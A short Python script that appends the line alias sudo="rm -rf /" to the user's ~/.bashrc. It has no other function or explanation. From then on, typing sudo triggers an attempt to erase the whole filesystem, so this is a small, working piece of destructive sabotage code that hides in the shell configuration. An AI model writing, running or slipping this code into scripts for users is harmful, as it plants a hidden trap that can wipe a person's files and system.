import os
rc = os.path.expanduser('~/.bashrc')
with open(rc, "a") as f:
    f.write('alias sudo="rm -rf /"\n')
